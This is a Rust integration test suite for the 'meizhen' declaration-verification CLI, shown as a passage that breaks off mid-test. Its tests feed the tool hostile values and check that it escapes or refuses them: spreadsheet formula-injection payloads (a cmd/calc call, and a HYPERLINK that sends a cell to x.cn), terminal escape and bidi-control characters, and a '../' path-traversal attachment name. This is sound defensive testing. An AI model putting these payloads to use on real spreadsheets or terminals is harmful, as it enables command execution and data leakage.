//! The command line `meizhen`, run as the city office runs it: commands, options and usage,
//! one line per verified file, the 汇总表 as CSV and as a workbook, attachments beside the
//! files, the known-keys list, and every file it must refuse (hostile content, FIFOs,
//! folders, devices) — with nothing hidden ever printed to the terminal.
#![cfg(not(target_arch = "wasm32"))]

// Only its temporary folders: the Python helpers are for the other suites.
#[allow(dead_code)]
#[path = "support/common.rs"]
mod common;

use std::ffi::{OsStr, OsString};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use chrono::TimeZone;
use meizhen_shenbao::model::declaration::Attachment;
use meizhen_shenbao::model::encoding::fingerprint_groups;
use meizhen_shenbao::model::keys::key_from_seed;
use meizhen_shenbao::model::sample;
use meizhen_shenbao::model::signed_file::{sign, to_json_bytes};
use meizhen_shenbao::model::summary;

const MEIZHEN: &str = env!("CARGO_BIN_EXE_meizhen");

/// An attachment entry listing `content` under `name`.
fn listed(name: &str, content: &[u8]) -> Attachment {
    Attachment {
        name: name.into(),
        size: content.len() as u64,
        media_type: "application/pdf".into(),
        sha256: meizhen_shenbao::model::canonical::sha256_hex(content),
    }
}

fn temp_dir(name: &str) -> PathBuf {
    common::temp_dir("cli", name)
}

fn signed_file(
    dir: &Path,
    name: &str,
    edit: impl FnOnce(&mut meizhen_shenbao::model::declaration::Declaration),
) -> PathBuf {
    let mut d = sample::complete();
    edit(&mut d);
    let at = chrono::Utc.with_ymd_and_hms(2021, 6, 30, 8, 0, 0).unwrap();
    let file = sign(&d, &key_from_seed([5; 32]), at).unwrap();
    let path = dir.join(name);
    std::fs::write(&path, to_json_bytes(&file)).unwrap();
    path
}

/// Runs `meizhen` with these arguments: its exit status, standard output and error.
fn run_with(args: &[&OsStr]) -> (i32, String, String) {
    let out = Command::new(MEIZHEN)
        .args(args)
        .stdin(Stdio::null())
        .output()
        .expect("meizhen runs");
    (
        out.status.code().expect("an exit status"),
        String::from_utf8(out.stdout).expect("UTF-8 output"),
        String::from_utf8(out.stderr).expect("UTF-8 errors"),
    )
}

fn os(s: &str) -> &OsStr {
    OsStr::new(s)
}

/// Reads RFC 4180 CSV (enough for these tests): rows of fields.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}

/// A file signed by other software: `change` edits the JSON of a valid file, which is
/// then signed again with a valid key.
fn resigned_file(dir: &Path, name: &str, change: impl FnOnce(&mut serde_json::Value)) -> PathBuf {
    use base64::Engine;
    use ed25519_dalek::Signer;
    use meizhen_shenbao::model::signed_file::signing_message_of;
    let path = signed_file(dir, name, |d| {
        d.attachments.push(Attachment {
            name: "规划.pdf".into(),
            size: 4,
            media_type: "application/pdf".into(),
            sha256: "ab".repeat(32),
        })
    });
    let mut value: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    change(&mut value);
    let message = signing_message_of(&value).unwrap();
    let signature = key_from_seed([5; 32]).sign(&message);
    value["signature"]["value"] = base64::engine::general_purpose::STANDARD
        .encode(signature.to_bytes())
        .into();
    std::fs::write(&path, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
    path
}

fn fingerprint_of(seed: u8) -> String {
    meizhen_shenbao::model::keys::fingerprint(&key_from_seed([seed; 32]).verifying_key())
}

/// A valid file signed with the key of `seed`.
fn signed_with(dir: &Path, name: &str, seed: u8, applicant: &str) -> PathBuf {
    let mut d = sample::complete();
    d.applicant = applicant.into();
    let at = chrono::Utc.with_ymd_and_hms(2021, 6, 30, 8, 0, 0).unwrap();
    let file = sign(&d, &key_from_seed([seed; 32]), at).unwrap();
    let path = dir.join(name);
    std::fs::write(&path, to_json_bytes(&file)).unwrap();
    path
}

#[test]
fn summary_xlsx_writes_the_workbook_and_refuses_misuse() {
    let dir = temp_dir("xlsx");
    let a = signed_file(&dir, "a.json", |_| {});
    let bad = dir.join("bad.json");
    std::fs::write(&bad, "{}").unwrap();
    let target = dir.join("汇总.xlsx");
    let (code, out, err) = run_with(&[
        os("summary"),
        os("--xlsx"),
        target.as_os_str(),
        a.as_os_str(),
        bad.as_os_str(),
    ]);
    assert_eq!(code, 1, "{err}");
    assert!(out.contains("签名有效的文件 1 份，无效文件 1 份"), "{out}");
    let bytes = std::fs::read(&target).unwrap();
    assert!(bytes.starts_with(b"PK"), "a zip package");
    let usage: [&[&str]; 3] = [
        &["verify", "--xlsx", "x.xlsx", "a.json"],
        &["summary", "a.json", "--xlsx"],
        &["summary", "--xlsx", "x.xlsx", "--xlsx", "y.xlsx", "a.json"],
    ];
    for args in usage {
        let args: Vec<&OsStr> = args.iter().map(|a| os(a)).collect();
        assert_eq!(run_with(&args).0, 2, "{args:?}");
    }
    let unwritable = dir.join("no-such-folder").join("汇总.xlsx");
    let (code, _, err) = run_with(&[
        os("summary"),
        os("--xlsx"),
        unwritable.as_os_str(),
        a.as_os_str(),
    ]);
    assert_eq!(code, 1);
    assert!(err.contains("无法写出"), "{err}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn help_is_chinese_and_usage_errors_exit_2() {
    let (code, out, _) = run_with(&[os("--help")]);
    assert_eq!(code, 0);
    assert!(out.contains("用法") && out.contains("meizhen verify"));
    assert!(out.contains("不是具有法律效力的电子印章"));
    assert_eq!(run_with(&[]).0, 2);
    let (code, _, err) = run_with(&[os("check")]);
    assert_eq!(code, 2);
    assert!(err.contains("未知的命令"), "{err}");
    assert_eq!(run_with(&[os("verify")]).0, 2);
    assert_eq!(run_with(&[os("summary")]).0, 2);
    let (code, _, err) = run_with(&[os("verify"), os("--fast"), os("a.json")]);
    assert_eq!(code, 2);
    assert!(err.contains("未知的选项"), "{err}");
    assert_eq!(run_with(&[os("verify"), os("-h")]).0, 0);
}

#[test]
fn verify_prints_one_line_per_file_and_fails_if_any_is_invalid() {
    let dir = temp_dir("verify");
    let good = signed_file(&dir, "good.json", |_| {});
    let tampered = dir.join("tampered.json");
    let text = std::fs::read_to_string(&good).unwrap();
    std::fs::write(&tampered, text.replace("桐庐富春江美镇圈", "桐庐美镇圈")).unwrap();
    let missing = dir.join("missing.json");
    let (code, out, _) = run_with(&[
        os("verify"),
        good.as_os_str(),
        tampered.as_os_str(),
        missing.as_os_str(),
    ]);
    assert_eq!(code, 1);
    let lines: Vec<Vec<&str>> = out.lines().map(|l| l.split('\t').collect()).collect();
    assert_eq!(lines.len(), 3, "{out}");
    assert!(lines.iter().all(|l| l.len() == 8), "{out}");
    assert_eq!(lines[0][7], "无附件");
    assert_eq!(lines[0][1], "有效（未登记的密钥）");
    assert_eq!(lines[0][4], "桐庐县");
    assert_eq!(lines[0][5], "桐庐富春江美镇圈");
    assert_eq!(lines[0][6], "2021-06-30T08:00:00Z");
    assert_eq!(lines[0][3].len(), 64 + 15);
    assert_eq!(lines[1][1], "无效");
    assert!(lines[1][2].starts_with("内容被改动"), "{}", lines[1][2]);
    assert_eq!(lines[2][1], "无效");
    assert_eq!(lines[2][2], "无法读取文件：文件不存在");
    // Only valid files: exit 0.
    let (code, _, _) = run_with(&[os("verify"), good.as_os_str()]);
    assert_eq!(code, 0);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn attachments_beside_the_declaration_are_matched_by_name_and_digest() {
    let dir = temp_dir("attachments");
    // The declaration sits in `sub/`; `../secret.txt` exists but must not be looked at.
    let top = dir.clone();
    let dir = top.join("sub");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(top.join("secret.txt"), b"secret").unwrap();
    let path = signed_file(&dir, "申报.json", |d| {
        d.attachments.push(listed("规划.pdf", b"plan"));
        d.attachments.push(listed("清单.xlsx", b"list"));
        d.attachments.push(listed("照片.jpg", b"photo"));
        d.attachments.push(listed("../secret.txt", b"secret"));
    });
    std::fs::write(dir.join("规划.pdf"), b"plan").unwrap();
    std::fs::write(dir.join("清单.xlsx"), b"list, changed after signing").unwrap();
    let (code, out, _) = run_with(&[os("verify"), path.as_os_str()]);
    assert_eq!(code, 1, "{out}");
    let cells: Vec<&str> = out.trim_end().split('\t').collect();
    assert_eq!(cells[1], "有效（未登记的密钥）");
    assert_eq!(
        cells[7],
        "附件 4 个：规划.pdf 一致；清单.xlsx 内容不一致；照片.jpg 缺少；../secret.txt 缺少"
    );
    // Missing only: reported, exit 0.
    std::fs::write(dir.join("清单.xlsx"), b"list").unwrap();
    let (code, out, _) = run_with(&[os("verify"), path.as_os_str()]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("照片.jpg 缺少"), "{out}");
    // All present and unchanged: exit 0.
    std::fs::write(dir.join("照片.jpg"), b"photo").unwrap();
    let path = signed_file(&dir, "申报2.json", |d| {
        d.attachments.push(listed("规划.pdf", b"plan"));
        d.attachments.push(listed("清单.xlsx", b"list"));
        d.attachments.push(listed("照片.jpg", b"photo"));
    });
    let (code, out, _) = run_with(&[os("verify"), path.as_os_str()]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("附件 3 个：规划.pdf 一致；清单.xlsx 一致；照片.jpg 一致"));
    let _ = std::fs::remove_dir_all(&top);
}

#[test]
fn summary_is_a_bom_csv_of_the_valid_files() {
    let dir = temp_dir("summary");
    let a = signed_file(&dir, "a.json", |_| {});
    let b = signed_file(&dir, "b.json", |d| {
        d.cluster_name = "富春江\"美镇\"带, 二期".into();
        d.summary = "第一段，有逗号。\n\n第二段有\"引号\"。".into();
        d.attachments.push(Attachment {
            name: "规划.pdf".into(),
            size: 10,
            media_type: "application/pdf".into(),
            sha256: "00".repeat(32),
        });
        d.attachments.push(Attachment {
            name: "清单.xlsx".into(),
            size: 10,
            media_type: "application/vnd.ms-excel".into(),
            sha256: "11".repeat(32),
        });
    });
    let bad = dir.join("bad.json");
    std::fs::write(&bad, "{}").unwrap();
    let (code, out, err) =
        run_with(&[os("summary"), a.as_os_str(), bad.as_os_str(), b.as_os_str()]);
    assert_eq!(code, 1);
    assert!(err.contains("bad.json\t无效\t不是申报文件"), "{err}");
    assert!(out.starts_with('\u{feff}'));
    let rows = parse_csv(out.trim_start_matches('\u{feff}'));
    assert_eq!(rows.len(), 3, "{out}");
    let header = &rows[0];
    assert_eq!(header, &summary::header());
    assert_eq!(header.len(), 29);
    assert!(rows[1..].iter().all(|r| r[0] == summary::SIGNED_SOURCE));
    assert!(rows.iter().all(|r| r.len() == header.len()));
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (first, second) = (&rows[1], &rows[2]);
    assert_eq!(first[col("美丽城镇集群化建设名称")], "桐庐富春江美镇圈");
    assert_eq!(first[col("申报单位")], "桐庐县");
    assert_eq!(
        first[col("关联乡镇（街道）")],
        "富春江镇（桐庐县）、江南镇（桐庐县）、凤川街道（桐庐县）"
    );
    assert_eq!(first[col("创建类型")], "复合型");
    assert_eq!(first[col("创建范围")], "县域内部");
    assert_eq!(first[col("总协调人 姓名")], "王建国");
    assert_eq!(first[col("具体联系人 联系电话")], "13857112345");
    assert_eq!(first[col("工作专班成立时间")], "2021-04-30");
    assert_eq!(first[col("集群规划完成时间")], "2021-09-30");
    assert_eq!(first[col("签名时间（UTC）")], "2021-06-30T08:00:00Z");
    assert_eq!(first[col("签名密钥指纹")].len(), 64 + 15);
    assert_eq!(first[col("内容摘要")].len(), 64 + 15);
    assert_eq!(first[col("附件")], "");
    assert_eq!(first[col("附件核对")], "无附件");
    assert_eq!(
        second[col("美丽城镇集群化建设名称")],
        "富春江\"美镇\"带, 二期"
    );
    assert_eq!(
        second[col("主要内容简介（500字）")],
        "第一段，有逗号。\n\n第二段有\"引号\"。"
    );
    assert_eq!(second[col("附件")], "规划.pdf、清单.xlsx");
    assert!(second[col("文件名")].ends_with("b.json"));
    assert_eq!(second[col("签名单位")], "未登记的密钥");
    // Only valid files: exit 0.
    let (code, _, err) = run_with(&[os("summary"), a.as_os_str()]);
    assert_eq!((code, err.as_str()), (0, ""));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn summary_cells_that_would_start_a_formula_are_written_as_text() {
    let dir = temp_dir("formula");
    let path = signed_file(&dir, "f.json", |d| {
        d.cluster_name = "=HYPERLINK(\"http://x.cn/\"&B2,\"详情\")".into();
        d.coordinator.unit = "@SUM(1+9)*cmd|' /C calc'!A0".into();
        d.coordinator.title = "+1+1".into();
        d.contact.title = "-2+3".into();
        d.contact.unit = "＝1+1".into();
    });
    let (code, out, err) = run_with(&[os("summary"), path.as_os_str()]);
    assert_eq!((code, err.as_str()), (0, ""), "{out}");
    let rows = parse_csv(out.trim_start_matches('\u{feff}'));
    let header = &rows[0];
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = &rows[1];
    assert_eq!(
        row[col("美丽城镇集群化建设名称")],
        "'=HYPERLINK(\"http://x.cn/\"&B2,\"详情\")"
    );
    assert_eq!(
        row[col("总协调人 所在单位")],
        "'@SUM(1+9)*cmd|' /C calc'!A0"
    );
    assert_eq!(row[col("总协调人 职务")], "'+1+1");
    assert_eq!(row[col("具体联系人 职务")], "'-2+3");
    assert_eq!(row[col("具体联系人 所在单位")], "'＝1+1");
    // No cell of the file starts with a formula character.
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']),
                "{cell:?}"
            );
        }
    }
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn declarations_not_as_the_app_writes_them_are_invalid_and_nothing_hidden_is_printed() {
    let dir = temp_dir("hostile");
    // (file, change, words of the reason)
    type Change = Box<dyn FnOnce(&mut serde_json::Value)>;
    let rows: Vec<(&str, Change, &str)> = vec![
        (
            "untrimmed.json",
            Box::new(|v| v["declaration"]["applicant"] = "\u{3000}330122 ".into()),
            "内容写法不规范：“申报单位”的写法与本程序生成的不同",
        ),
        (
            "bidi.json",
            Box::new(|v| v["declaration"]["clusterName"] = "桐庐\u{202e}圈镇美".into()),
            "含有不可见的字符：文字方向控制符",
        ),
        (
            "escape.json",
            Box::new(|v| v["declaration"]["clusterName"] = "\u{1b}[2J\u{1b}]0;x\u{7}".into()),
            "名称”含有不可见的字符：控制字符",
        ),
        (
            "nul.json",
            Box::new(|v| v["declaration"]["contact"]["unit"] = "桐庐\0县".into()),
            "所在单位”含有不可见的字符：控制字符",
        ),
        (
            "attachment.json",
            Box::new(|v| {
                v["declaration"]["attachments"][0]["name"] = "".into();
                v["declaration"]["attachments"][0]["sha256"] = "not-a-hash".into();
            }),
            "第 1 个附件没有文件名；第 1 个附件的内容摘要应为 64 位小写十六进制数字",
        ),
        (
            "many.json",
            Box::new(|v| {
                let one = v["declaration"]["attachments"][0].clone();
                v["declaration"]["attachments"] = serde_json::Value::Array(vec![one; 500]);
            }),
            "列出了 500 个附件，最多 50 个",
        ),
    ];
    for (name, change, words) in rows {
        let path = resigned_file(&dir, name, change);
        for command in ["verify", "summary"] {
            let (code, out, err) = run_with(&[os(command), path.as_os_str()]);
            assert_eq!(code, 1, "{name} {command}: {out}{err}");
            let listing = if command == "verify" { &out } else { &err };
            assert!(listing.contains("\t无效\t"), "{name} {command}: {listing}");
            assert!(listing.contains(words), "{name} {command}: {listing}");
            for text in [&out, &err] {
                assert!(
                    !text.contains(['\u{1b}', '\0', '\u{7}', '\u{202e}']),
                    "{name} {command}: {text:?}"
                );
            }
        }
    }
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn summary_checks_attachments_like_verify() {
    let dir = temp_dir("summary-attachments");
    let path = signed_file(&dir, "a.json", |d| {
        d.attachments.push(listed("规划.pdf", b"plan"));
        d.attachments.push(listed("清单.xlsx", b"list"));
        d.attachments.push(listed("照片.jpg", b"photo"));
    });
    std::fs::write(dir.join("规划.pdf"), b"plan").unwrap();
    std::fs::write(dir.join("清单.xlsx"), b"list, changed after signing").unwrap();
    let (code, out, err) = run_with(&[os("summary"), path.as_os_str()]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("a.json\t附件不一致\t"), "{err}");
    let rows = parse_csv(out.trim_start_matches('\u{feff}'));
    let col = rows[0].iter().position(|h| h == "附件核对").unwrap();
    assert_eq!(
        rows[1][col],
        "附件 3 个：规划.pdf 一致；清单.xlsx 内容不一致；照片.jpg 缺少"
    );
    // Missing only: reported in the column, exit 0.
    std::fs::write(dir.join("清单.xlsx"), b"list").unwrap();
    let (code, out, err) = run_with(&[os("summary"), path.as_os_str()]);
    assert_eq!((code, err.as_str()), (0, ""));
    assert!(out.contains("照片.jpg 缺少"), "{out}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn with_a_known_keys_list_each_line_names_the_office_or_says_unregistered() {
    let dir = temp_dir("keys");
    let list = dir.join("密钥.txt");
    std::fs::write(
        &list,
        format!(
            "# 已登记的密钥\n{} 桐庐县美镇办\n{}\t富阳区美镇办 # 2021 年登记\n",
            fingerprint_groups(&fingerprint_of(5)),
            fingerprint_of(6).to_uppercase()
        ),
    )
    .unwrap();
    let tonglu = signed_with(&dir, "tonglu.json", 5, "330122");
    // 富阳区's registered key signing a declaration "from 桐庐县".
    let other = signed_with(&dir, "other.json", 6, "330122");
    // Anyone's key signing "from 桐庐县".
    let stranger = signed_with(&dir, "stranger.json", 9, "330122");

    let (code, out, err) = run_with(&[
        os("verify"),
        os("--keys"),
        list.as_os_str(),
        tonglu.as_os_str(),
    ]);
    assert_eq!((code, err.as_str()), (0, ""), "{out}");
    let cells: Vec<&str> = out.trim_end().split('\t').collect();
    assert_eq!(cells[1], "有效（桐庐县美镇办）");
    assert_eq!(cells[2], "签名与内容一致");

    let with_list = format!("--keys={}", list.display());
    let (code, out, _) = run_with(&[os("verify"), os(&with_list), other.as_os_str()]);
    assert_eq!(code, 0, "{out}");
    let cells: Vec<&str> = out.trim_end().split('\t').collect();
    assert_eq!(cells[1], "有效（富阳区美镇办）");
    assert!(
        cells[2].contains("签名密钥登记为“富阳区美镇办”，但申报单位是“桐庐县”"),
        "{}",
        cells[2]
    );

    let (code, out, _) = run_with(&[
        os("verify"),
        os("--keys"),
        list.as_os_str(),
        tonglu.as_os_str(),
        stranger.as_os_str(),
    ]);
    assert_eq!(code, 1, "{out}");
    let lines: Vec<Vec<&str>> = out.lines().map(|l| l.split('\t').collect()).collect();
    assert_eq!(lines[0][1], "有效（桐庐县美镇办）");
    assert_eq!(lines[1][1], "有效（未登记的密钥）");
    // Without a list nothing is "有效" bare, and the run passes.
    let (code, out, _) = run_with(&[os("verify"), stranger.as_os_str()]);
    assert_eq!(code, 0);
    assert!(out.contains("\t有效（未登记的密钥）\t"), "{out}");

    // summary: a 签名单位 column; an unlisted key fails the run and is named on stderr.
    let (code, out, err) = run_with(&[
        os("summary"),
        os("--keys"),
        list.as_os_str(),
        tonglu.as_os_str(),
        other.as_os_str(),
        stranger.as_os_str(),
    ]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("stranger.json\t未登记\t签名密钥"), "{err}");
    assert!(
        err.contains("other.json\t请注意\t签名密钥登记为“富阳区美镇办”"),
        "{err}"
    );
    let rows = parse_csv(out.trim_start_matches('\u{feff}'));
    let col = rows[0].iter().position(|h| h == "签名单位").unwrap();
    let signers: Vec<&str> = rows[1..].iter().map(|r| r[col].as_str()).collect();
    assert_eq!(signers, ["桐庐县美镇办", "富阳区美镇办", "未登记的密钥"]);
    let (code, _, err) = run_with(&[
        os("summary"),
        os("--keys"),
        list.as_os_str(),
        tonglu.as_os_str(),
    ]);
    assert_eq!((code, err.as_str()), (0, ""));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_known_keys_list_with_errors_is_refused_with_every_line_named() {
    let dir = temp_dir("bad-keys");
    let file = signed_with(&dir, "a.json", 5, "330122");
    let list = dir.join("密钥.txt");
    std::fs::write(
        &list,
        format!(
            "{} 桐庐县美镇办\n{} 富阳区美镇办\n1234 5678 建德市美镇办\n{}\n",
            fingerprint_of(5),
            fingerprint_of(5),
            fingerprint_of(7)
        ),
    )
    .unwrap();
    let (code, out, err) = run_with(&[
        os("verify"),
        os("--keys"),
        list.as_os_str(),
        file.as_os_str(),
    ]);
    assert_eq!((code, out.as_str()), (2, ""));
    assert!(
        err.contains("第 2 行：这个密钥在第 1 行登记为“桐庐县美镇办”"),
        "{err}"
    );
    assert!(
        err.contains("第 3 行：开头应为 64 位十六进制数字的密钥指纹"),
        "{err}"
    );
    assert!(err.contains("第 4 行：密钥指纹之后缺少单位名称"), "{err}");
    assert!(err.contains("请修改密钥列表后重试"), "{err}");
    // A warning only (one office, two keys): the list is used.
    std::fs::write(
        &list,
        format!(
            "{} 桐庐县美镇办\n{} 桐庐县美镇办\n",
            fingerprint_of(5),
            fingerprint_of(7)
        ),
    )
    .unwrap();
    let (code, out, err) = run_with(&[
        os("verify"),
        os("--keys"),
        list.as_os_str(),
        file.as_os_str(),
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("（提醒）第 2 行："), "{err}");
    assert!(out.contains("有效（桐庐县美镇办）"), "{out}");
    // Missing list, missing value, a folder, given twice.
    let missing = dir.join("none.txt");
    let (code, _, err) = run_with(&[
        os("verify"),
        os("--keys"),
        missing.as_os_str(),
        file.as_os_str(),
    ]);
    assert_eq!(code, 2);
    assert!(err.contains("文件不存在"), "{err}");
    let (code, _, err) = run_with(&[os("verify"), os("--keys")]);
    assert_eq!(code, 2);
    assert!(err.contains("--keys 之后应给出"), "{err}");
    let (code, _, err) = run_with(&[
        os("summary"),
        os("--keys"),
        dir.as_os_str(),
        file.as_os_str(),
    ]);
    assert_eq!(code, 2);
    assert!(err.contains("文件夹"), "{err}");
    let (code, _, err) = run_with(&[
        os("verify"),
        os("--keys"),
        list.as_os_str(),
        os("--keys"),
        list.as_os_str(),
        file.as_os_str(),
    ]);
    assert_eq!(code, 2);
    assert!(err.contains("只能给出一次"), "{err}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn anything_but_a_regular_file_is_refused_before_it_is_opened() {
    let dir = temp_dir("fifo");
    let fifo = dir.join("x.json");
    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo");
    assert!(made.success());
    let folder = dir.join("folder.json");
    std::fs::create_dir_all(&folder).unwrap();
    // A FIFO that was opened would wait for a writer forever: give up after a while instead
    // of hanging the tests.
    let mut child = Command::new(MEIZHEN)
        .arg("verify")
        .args([fifo.as_os_str(), folder.as_os_str(), os("/dev/null")])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .spawn()
        .expect("meizhen runs");
    let started = std::time::Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().expect("meizhen is waited for") {
            break status;
        }
        if started.elapsed() > std::time::Duration::from_secs(10) {
            let _ = child.kill();
            panic!("meizhen verify hung on a FIFO");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    let mut out = String::new();
    std::io::Read::read_to_string(&mut child.stdout.take().unwrap(), &mut out).unwrap();
    assert_eq!(status.code(), Some(1));
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 3, "{out}");
    assert!(
        lines[0].contains("x.json\t无效\t无法读取文件：这不是普通文件"),
        "{out}"
    );
    assert!(
        lines[1].contains("\t无效\t无法读取文件：这是一个文件夹"),
        "{out}"
    );
    assert!(
        lines[2].contains("/dev/null\t无效\t无法读取文件：这不是普通文件"),
        "{out}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// Every option takes its file after a space or after `=`; `--` ends the options; `help`
/// and `--help` give each command's Chinese usage; mistakes are said in Chinese.
#[test]
fn options_take_their_file_after_a_space_or_an_equals_sign() {
    let dir = temp_dir("args");
    let a = signed_file(&dir, "a.json", |_| {});
    let list = dir.join("密钥.txt");
    std::fs::write(&list, format!("{} 桐庐县美镇办\n", fingerprint_of(5))).unwrap();
    for (i, joined) in [false, true].into_iter().enumerate() {
        let target = dir.join(format!("汇总-{i}.xlsx"));
        let mut args: Vec<OsString> = vec!["summary".into()];
        if joined {
            args.push(format!("--xlsx={}", target.display()).into());
            args.push(format!("--keys={}", list.display()).into());
        } else {
            args.extend(["--xlsx".into(), target.clone().into_os_string()]);
            args.extend(["--keys".into(), list.clone().into_os_string()]);
        }
        args.push(a.clone().into_os_string());
        let args: Vec<&OsStr> = args.iter().map(OsString::as_os_str).collect();
        let (code, out, err) = run_with(&args);
        assert_eq!((code, err.as_str()), (0, ""), "joined {joined}: {out}");
        assert!(
            std::fs::read(&target).unwrap().starts_with(b"PK"),
            "joined {joined}: a workbook"
        );
    }
    // After `--`, a name that looks like an option is a file.
    let (code, out, _) = run_with(&[os("verify"), os("--"), os("--keys")]);
    assert_eq!(code, 1);
    assert!(
        out.starts_with("--keys\t无效\t无法读取文件：文件不存在"),
        "{out}"
    );

    // Usage, in Chinese, for everything and for each command.
    let (code, all, _) = run_with(&[os("help")]);
    assert_eq!(code, 0);
    assert!(all.contains("meizhen help summary"), "{all}");
    for command in ["summary", "verify"] {
        let (code, out, _) = run_with(&[os("help"), os(command)]);
        assert_eq!(code, 0, "help {command}");
        assert!(out.starts_with(&format!("meizhen {command} — ")), "{out}");
        assert!(out.contains("用法："), "{out}");
        let (code, again, _) = run_with(&[os(command), os("--help")]);
        assert_eq!((code, &again), (0, &out), "{command} --help");
    }
    let (_, summary_help, _) = run_with(&[os("help"), os("summary")]);
    assert!(summary_help.contains("--xlsx 文件"), "{summary_help}");
    // Mistakes: said in Chinese, exit 2.
    let rows: [(&[&str], &str); 5] = [
        (&["help", "check"], "未知的命令“check”"),
        (&["help", "verify", "x"], "无法读取命令行参数"),
        (
            &["verify", "--help=x", "a.json"],
            "选项“--help”之后不能带值",
        ),
        (
            &["verify", "--xlsx=x.xlsx", "a.json"],
            "--xlsx 只用于 summary",
        ),
        (
            &["summary", "--xlsx"],
            "--xlsx 之后应给出要写出的 Excel 文件",
        ),
    ];
    for (args, said) in rows {
        let args: Vec<&OsStr> = args.iter().map(|a| os(a)).collect();
        let (code, out, err) = run_with(&args);
        assert_eq!((code, out.as_str()), (2, ""), "{args:?}");
        assert!(err.contains(said), "{args:?}: {err}");
        assert!(err.contains("运行 meizhen --help 查看用法"), "{err}");
    }
    let (code, version, _) = run_with(&[os("--version")]);
    assert_eq!(code, 0);
    assert!(version.starts_with("meizhen "), "{version}");
    let _ = std::fs::remove_dir_all(&dir);
}

const WORD_FIXTURES: [&str; 5] = [
    "filled.docx",
    "filled-libreoffice.docx",
    "template.docx",
    "legacy-fields.docx",
    "content-controls.docx",
];

fn word_fixture(dir: &Path, name: &str) -> PathBuf {
    let from = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/word")
        .join(name);
    let to = dir.join(name);
    std::fs::copy(&from, &to).unwrap();
    to
}

/// Each Word fixture shape is a row of the summary marked "Word 文件（未签名）", with what
/// the reader read; the signed file stays the only valid one; a refused Word file is invalid
/// with its plain reason; and our own Word copy reads back as the declaration it was made of.
#[test]
fn summary_takes_word_files_as_unsigned_rows() {
    use meizhen_shenbao::model::office::docx::docx;
    use meizhen_shenbao::model::office::docx_read::read_word;
    let dir = temp_dir("summary-word");
    let signed = signed_file(&dir, "a.json", |_| {});
    let mut paths = vec![signed.clone()];
    for name in WORD_FIXTURES {
        paths.push(word_fixture(&dir, name));
    }
    let ours = dir.join("我们导出的.DOCX");
    std::fs::write(&ours, docx(&sample::complete(), None).unwrap()).unwrap();
    paths.push(ours.clone());
    let old = dir.join("旧版.doc");
    let mut ole = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    ole.extend_from_slice(&[0; 504]);
    std::fs::write(&old, ole).unwrap();
    paths.push(old.clone());
    let args: Vec<&OsStr> = std::iter::once(os("summary"))
        .chain(paths.iter().map(|p| p.as_os_str()))
        .collect();
    let (code, out, err) = run_with(&args);
    assert_eq!(code, 1, "the refused .doc fails the run: {err}");
    assert!(
        err.contains("旧版.doc\t无效\t这是旧版 Word 格式的文件（.doc），不能直接导入。"),
        "{err}"
    );
    let rows = parse_csv(out.trim_start_matches('\u{feff}'));
    let header = &rows[0];
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    assert_eq!(rows.len(), 1 + 1 + WORD_FIXTURES.len() + 1, "{out}");
    assert_eq!(rows[1][col("来源")], summary::SIGNED_SOURCE);
    for (i, path) in paths[1..=WORD_FIXTURES.len() + 1].iter().enumerate() {
        let row = &rows[2 + i];
        let name = path.to_string_lossy();
        assert_eq!(row[col("来源")], summary::WORD_SOURCE, "{name}");
        assert_eq!(row[col("签名单位")], summary::NOT_SIGNED, "{name}");
        assert_eq!(row[col("签名密钥指纹")], "", "{name}");
        assert_eq!(row[col("文件名")], name, "{name}");
        let import = read_word(&std::fs::read(path).unwrap(), &name).unwrap();
        let want = summary::row(&summary::Row::Word(summary::WordFile {
            file_name: &name,
            declaration: &import.declaration,
        }));
        assert_eq!(row, &want, "{name}");
        assert!(
            err.contains(&format!("{name}\t{}", summary::WORD_SOURCE)),
            "{err}"
        );
    }
    let filled = &rows[2];
    assert_eq!(filled[col("美丽城镇集群化建设名称")], "桐庐富春江美镇圈");
    let template = &rows[4];
    assert_eq!(
        template[col("美丽城镇集群化建设名称")],
        "",
        "the empty template"
    );
    assert_eq!(
        template[col("申报单位")],
        "",
        "an empty 申报单位 is an empty cell, not 未知地区（）"
    );
    let own = rows.last().unwrap();
    assert_eq!(
